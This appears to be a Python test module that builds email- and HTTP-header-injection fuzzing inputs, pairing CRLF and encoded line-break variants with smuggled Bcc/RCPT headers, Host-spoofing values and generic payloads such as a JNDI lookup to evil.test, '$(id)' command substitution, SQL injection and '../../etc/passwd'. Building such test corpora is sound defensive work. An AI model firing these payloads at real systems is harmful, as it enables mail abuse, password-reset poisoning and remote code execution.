"""What somebody types who wants a mail to say, or to reach, more than it should, and every field that takes it."""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Final

EVIL: Final = "evil@evil.test"
LINE_ENDS: Final = ("\r\n", "\n", "\r", "\r\r\n", "\n\r", "\0", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")
SPELLED: Final = (  # line ends that somebody else has to decode, or to cut to a byte
    "%0d%0a", "%0D%0A", "%0a", "%250d%250a", "%E5%98%8A%E5%98%8D", "\u560a\u560d", "\u010a\u010d", "\\r\\n", "\\u000a",
    "=0D=0A", "&#13;&#10;", "&#x0a;", "\u240d\u240a", "\ufe68n",
)  # fmt: skip
HEADERS: Final = (
    f"Bcc: {EVIL}",
    f"To: {EVIL}",
    "Subject: evil",
    f"\tcc: {EVIL}",
    f" {EVIL}",
    f"\r\n.\r\nRCPT TO:<{EVIL}>",
)
WORDS: Final = (
    f",{EVIL}", f", {EVIL}", f";{EVIL}", f" {EVIL}", f"<{EVIL}>", f"> , <{EVIL}", f" <{EVIL}>", f"({EVIL})",
    f'"{EVIL}"', f"=?utf-8?q?=0D=0ABcc:_{EVIL}?=", "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=",
    f"=?x?q?=41=40evil.test=3e=20?={EVIL}",
    "%evil.test", "!evil.test", "@evil.test", f"@evil.test:{EVIL}", "\uff20evil.test", "\ufe6bevil.test", "\uff0cevil",
    "\u202e", "\u2066", "\u200b", "\u00ad", "\ufeff", "\u0430", "\uff0e", "\u3002", "\ud800", "{{7*7}}", "{% raw %}",
    "{0}", "%s%s%n", "${jndi:ldap://evil.test}", "$(id)", "`id`", "| id", "; id", "' OR 1=1 --", "../../etc/passwd",
    "<a href=http://evil.test>x</a>", "http://evil.test", "www.evil.test", "<script>", "]]>", "--=_part_of_letter_=",
    "x" * 59, "x" * 300, "x" * 5000, ".", "..", "'", '"', "\\", "\\\\\r\n", "()", "[]", "[127.0.0.1]", "0471", "+" * 20,
)  # fmt: skip
PLACES: Final = (  # the field, and how it is filled in
    ("email", "{name}@example.test{text}"),
    ("email", "{text}{name}@example.test"),
    ("email", "{name}{text}@example.test"),
    ("email", "{name}{text}within@example.test"),
    ("email", "{name}@exam{text}ple.test"),
    ("email", "@relay.test:{text}{name}@example.test"),
    ("email", '"{name}{text}"@example.test'),
    ("email", "Name {text} <{name}@example.test>"),
    ("username", "{text}"),
    ("username", "kim{text}within"),
    ("locale", "{text}"),
    ("locale", "en{text}"),
    ("new_email", "{name}@example.test{text}"),
    ("new_email", "{name}{text}@example.test"),
    ("forgot-password", "owner@example.test{text}"),
    ("send-code", "{text}owner@example.test"),
    ("User-Agent", "{text}"),
    ("User-Agent", "Mozilla/5.0 (Windows) Firefox/1 {text}"),
    ("Host", "{text}"),
    ("Host", "evil.test{text}"),
    ("X-Forwarded-Host", "evil.test{text}"),
    ("X-Forwarded-Proto", "{text}"),
    ("X-Forwarded-For", "{text}"),
    ("Forwarded", "for=evil.test;host=evil.test{text}"),
    ("Origin", "http://evil.test{text}"),
    ("Referer", "http://evil.test{text}"),
    ("X-Original-URL", "http://evil.test{text}"),
    ("X-Request-ID", "{text}"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01{text}"),
    ("Accept-Language", "de{text}"),
)


@dataclass(frozen=True)
class Injection:
    """What is typed, and where; `name` is what tells this one's mail from all others."""

    place: str
    template: str
    text: str

    def filled(self, name: str) -> str:
        """Return what the field is sent with."""
        return self.template.replace("{name}", name).replace("{text}", self.text)


def payloads() -> list[str]:
    """Return all that is typed."""
    headers = [f"{end}{header}" for end, header in product(LINE_ENDS, HEADERS)]
    return [*headers, *(f"{spelled}Bcc:{EVIL}" for spelled in SPELLED), *SPELLED, *LINE_ENDS, *WORDS]


def injections(number: int) -> Iterator[Injection]:
    """Yield so many, each payload and each place among them as often as it can be; the same ones each time."""
    every = [Injection(*place, text) for place, text in product(PLACES, payloads())]
    random.Random(4).shuffle(every)
    yield from every[:number]
